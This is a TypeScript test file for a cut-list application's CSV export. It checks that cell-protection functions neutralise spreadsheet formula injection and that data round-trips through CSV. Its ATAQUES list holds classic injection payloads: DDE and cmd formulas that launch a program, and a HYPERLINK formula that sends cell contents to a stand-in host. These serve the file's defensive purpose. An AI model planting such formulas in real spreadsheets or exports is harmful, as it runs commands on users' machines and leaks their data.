import { assert, constantFrom, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { liberarCelda, protegerCelda } from '#shared/kernel/csv'
import { type Corte, escribirCortes, leerCortes } from '../../web/src/despiece/csv'

/** What spreadsheets have been made to run. */
const ATAQUES = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://ejemplo.test?x="&A1,"Ver")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
]
/** A spreadsheet calculates a cell that begins so. */
const calcula = (celda: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(celda)

describe('a text cell of a CSV file', () => {
  test.each(ATAQUES)('%j is no formula, and comes back as it was', texto => {
    expect(calcula(texto)).toBe(true)
    expect(calcula(protegerCelda(texto))).toBe(false)
    expect(liberarCelda(protegerCelda(texto))).toBe(texto)
  })

  test.each(['Costado', '', '12', "'entre comillas'", 'a=b', "d'Artagnan"])('%j stays as it is', texto => {
    expect(protegerCelda(texto)).toBe(texto)
    expect(liberarCelda(texto)).toBe(texto)
  })

  test('whatever it is, it is never calculated and comes back unharmed', () => {
    const inicio = constantFrom('', "'", "''", '=', '+', '-', '@', "'=", "''@", '\t')
    assert(
      property(inicio, string(), (comienzo, resto) => {
        const texto = comienzo + resto
        expect(calcula(protegerCelda(texto))).toBe(false)
        expect(liberarCelda(protegerCelda(texto))).toBe(texto)
      }),
    )
  })
})

describe('a cut list as CSV', () => {
  const corte = (descripcion: string, referencia = 'PERFORACION'): Corte => ({
    cantidad: 2,
    base: 720,
    altura: 560,
    rotacion: true,
    descripcion,
    lados: [1, 0, 0, 0],
    servicios: [{ referencia, modo: 'B', cantidad: 1 }],
  })

  test.each(ATAQUES.filter(texto => texto.trim() === texto))('describes a piece as %j safely', texto => {
    const cortes = [corte(texto, texto.replaceAll(/[,;"'\s]/g, ''))]
    const csv = escribirCortes(cortes)
    for (const celda of csv.trimEnd().split(';')) expect(calcula(celda.replace(/^"/, ''))).toBe(false)
    expect(leerCortes(csv)).toEqual({ cortes, errores: [] })
  })

  test('with a description full of separators comes back as it was', () => {
    const cortes = [corte('=A1;"B2"\n@C3'), corte("'=ya protegida"), corte('-')]
    expect(leerCortes(escribirCortes(cortes))).toEqual({ cortes, errores: [] })
  })

  const cantidades = (texto: string) => leerCortes(texto)?.cortes.map(({ cantidad }) => cantidad)

  test.each(['\t', ';'])('with " for "the same as above" loses no row: separated by %j', s => {
    const filas = [2, 3, 4, 5, 6].map(cantidad => [cantidad, 600, 400, 0, cantidad === 2 ? 'Puerta' : '"'])
    expect(cantidades(filas.map(fila => fila.join(s)).join('\n'))).toEqual([2, 3, 4, 5, 6])
  })

  test('with a quote that is never closed loses no row', () => {
    expect(cantidades('2;600;400;0;"Puerta\n3;500;300\n4;200;300')).toEqual([2, 3, 4])
  })

  test('keeps a description of several lines, written between quotes', () => {
    expect(leerCortes('2;600;400;0;"Puerta\nizquierda; 2"\n3;500;300')?.cortes[0]).toMatchObject({
      descripcion: 'Puerta\nizquierda; 2',
    })
    expect(cantidades('2;600;400;0;"Puerta\nizquierda"\n3;500;300')).toEqual([2, 3])
  })

  test('is separated by what gives numbers, whatever stands in a description', () => {
    expect(cantidades('2,600,400,1,Puerta\n3,500,400,0,lijar; sellar; pintar')).toEqual([2, 3])
    expect(cantidades('2;600,5;400,5;1;Puerta, de vidrio, doble\n3;500;400')).toEqual([2, 3])
  })
})
